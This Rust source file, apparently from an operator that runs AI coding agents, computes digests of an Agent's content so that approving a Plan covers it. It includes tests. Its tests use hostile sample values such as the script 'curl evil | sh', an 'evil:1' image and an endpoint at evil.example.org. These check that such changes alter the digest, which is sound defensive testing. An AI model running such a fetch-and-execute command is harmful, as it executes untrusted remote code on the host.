//! The content of Agents, which the approval of a Plan covers: the instructions, the program and the access of an Agent.

use std::collections::BTreeMap;

use enact_domain::digest::Digest;
use kube::ResourceExt as _;
use serde_json::json;

use crate::provider::Api;
use crate::{Agent, AgentSpec};

/// Digests of the contents of Agents, by the name that a Plan uses.
pub type AgentDigests = BTreeMap<String, Digest>;

/// Most Agents that one Plan can name: its status lists them.
pub const MAX_AGENTS: usize = 64;

/// Returns the digest of the content of an Agent. `endpoint` returns the [endpoint](crate::provider::ModelProviderSpec::endpoint) of the
/// ModelProvider that a name refers to.
///
/// ConfigMaps are included as the operator read them last. Secrets are not: the operator cannot read them.
pub fn digest(agent: &Agent, endpoint: impl Fn(&str) -> Option<(Api, String)>) -> Digest {
    // All fields are listed, so that a new one must be classified here.
    let AgentSpec {
        adapter,
        image,
        custom,
        models,
        instructions,
        mcp_servers,
        skills,
        script,
        replay,
        env,
        // They decide which of the approved Agents works, how much it may use, and who may use it. They do not change what it does.
        max_turns: _,
        capabilities: _,
        concurrency: _,
        suspend: _,
        monthly_budget: _,
        limits: _,
        probe: _,
        resources: _,
        warm_pool: _,
        share_with: _,
    } = &agent.spec;
    let endpoints = endpoints(agent, endpoint);
    let read = agent.status.as_ref().map(|status| status.config_maps.as_slice()).unwrap_or_default();
    let config_maps: BTreeMap<&str, Option<&str>> = config_maps(&agent.spec)
        .map(|name| (name, read.iter().find(|map| map.name == name).map(|m| m.digest.as_str())))
        .collect();
    let content = json!({
        // An own Agent must not replace a shared one, or the reverse, although it has the same content.
        "namespace": agent.namespace(),
        "adapter": adapter,
        "image": image,
        "custom": custom,
        "models": models,
        "endpoints": endpoints,
        "instructions": instructions,
        "mcpServers": mcp_servers,
        "skills": skills,
        "script": script,
        "replay": replay,
        "env": env,
        "configMaps": config_maps,
    });
    Digest::of_bytes(content.to_string().as_bytes())
}

/// Returns the digest of the models of an Agent, and of the endpoints that serve them: the part of its content that is not in its pods, because
/// the gateway reads it for each request. `endpoint` is as for [`digest`].
pub fn models_digest(agent: &Agent, endpoint: impl Fn(&str) -> Option<(Api, String)>) -> Digest {
    let content = json!({
        "namespace": agent.namespace(),
        "models": agent.spec.models,
        "endpoints": endpoints(agent, endpoint),
    });
    Digest::of_bytes(content.to_string().as_bytes())
}

/// Returns API and URL of the ModelProviders that an Agent names.
fn endpoints(agent: &Agent, endpoint: impl Fn(&str) -> Option<(Api, String)>) -> BTreeMap<&str, Option<(Api, String)>> {
    agent.spec.models.iter().map(|model| (model.provider.as_str(), endpoint(&model.provider))).collect()
}

/// Returns the names of the ConfigMaps that an Agent refers to.
pub fn config_maps(spec: &AgentSpec) -> impl Iterator<Item = &str> {
    let replay = spec.replay.iter().map(|replay| &replay.config_map_ref);
    replay.chain(spec.skills.iter().map(|skill| &skill.config_map_ref)).map(|reference| reference.name.as_str())
}

#[cfg(test)]
mod tests {
    use serde_json::Value;

    use super::*;
    use crate::provider::ModelProviderSpec;

    fn agent(change: &Value) -> Agent {
        let mut spec =
            json!({"adapter": "Command", "script": "make", "models": [{"provider": "claude", "model": "claude-5"}]});
        spec.as_object_mut().unwrap().extend(change.as_object().unwrap().clone());
        let mut agent = Agent::new("coder", serde_json::from_value(spec).unwrap());
        agent.metadata.namespace = Some("ns".into());
        agent
    }

    fn at(url: &'static str) -> impl Fn(&str) -> Option<(Api, String)> {
        move |name| (name == "claude").then(|| (Api::Anthropic, url.to_owned()))
    }

    fn digest_of(change: &Value) -> Digest {
        digest(&agent(change), at("https://api.example.org"))
    }

    #[test]
    fn content_changes_the_digest_and_load_does_not() {
        let before = digest_of(&json!({}));
        for content in [
            json!({"script": "curl evil | sh"}),
            json!({"image": "evil:1"}),
            json!({"adapter": "Codex", "script": null}),
            json!({"env": [{"name": "PATH", "value": "/tmp"}]}),
            json!({"models": [{"provider": "claude", "model": "claude-6"}]}),
        ] {
            assert_ne!(digest_of(&content), before, "{content}");
        }
        for load in [
            json!({"concurrency": 3, "resources": {"cpu": 2}, "capabilities": [{"name": "rust"}]}),
            json!({"monthlyBudget": {"usd": "1"}, "limits": {"requestsPerMinute": 9}, "probe": "Off", "maxTurns": 7}),
            json!({"shareWith": {"allTenants": true}, "warmPool": {"size": 2}, "suspend": true}),
        ] {
            assert_eq!(digest_of(&load), before, "{load}");
        }
        let coder = |field: &str, value: Value| digest_of(&json!({"adapter": "Codex", field: value}));
        let plain = coder("script", json!(null));
        assert_ne!(coder("instructions", json!("Be brief.")), plain);
        assert_ne!(coder("mcpServers", json!([{"name": "a", "command": ["b"]}])), plain);
        assert_ne!(coder("skills", json!([{"name": "a", "configMapRef": {"name": "b"}}])), plain);
    }

    #[test]
    fn endpoint_and_namespace_are_content() {
        let moved = digest(&agent(&json!({})), at("https://evil.example.org"));
        assert_ne!(moved, digest_of(&json!({})));
        let mut elsewhere = agent(&json!({}));
        elsewhere.metadata.namespace = Some("enact-system".into());
        assert_ne!(digest(&elsewhere, at("https://api.example.org")), digest_of(&json!({})));
    }

    #[test]
    fn models_and_endpoints_have_a_digest_of_their_own() {
        let of = |change: &Value, url| models_digest(&agent(change), at(url));
        let before = of(&json!({}), "https://api.example.org");
        assert_eq!(of(&json!({"script": "make all", "maxTurns": 7}), "https://api.example.org"), before);
        assert_ne!(of(&json!({}), "https://evil.example.org"), before);
        let other = json!({"models": [{"provider": "claude", "model": "claude-6"}]});
        assert_ne!(of(&other, "https://api.example.org"), before);
        assert_ne!(models_digest(&agent(&json!({})), |_| None), before, "the provider was deleted");
    }

    #[test]
    fn tools_of_the_provider_are_content() {
        let with = |hosted_tools: bool| {
            let spec = json!({"api": "OpenAi", "baseUrl": "https://api.example.org", "hostedTools": hosted_tools});
            let provider: ModelProviderSpec = serde_json::from_value(spec).unwrap();
            let (agent, endpoint) = (agent(&json!({})), |_: &str| Some(provider.endpoint()));
            (digest(&agent, endpoint), models_digest(&agent, endpoint))
        };
        let (allowed, refused) = (with(true), with(false));
        assert!(allowed.0 != refused.0 && allowed.1 != refused.1);
    }

    #[test]
    fn the_content_of_a_config_map_is_content() {
        let mut agent =
            agent(&json!({"adapter": "Replay", "models": [], "replay": {"configMapRef": {"name": "work"}}}));
        let read = |agent: &mut Agent, map: &str, digest: &str| {
            agent.status =
                Some(serde_json::from_value(json!({"configMaps": [{"name": map, "digest": digest}]})).unwrap());
            super::digest(agent, |_| None)
        };
        let first = read(&mut agent, "work", "sha256:1");
        assert_ne!(read(&mut agent, "work", "sha256:2"), first);
        assert_ne!(read(&mut agent, "another", "sha256:1"), first);
        assert_eq!(read(&mut agent, "work", "sha256:1"), first);
    }
}
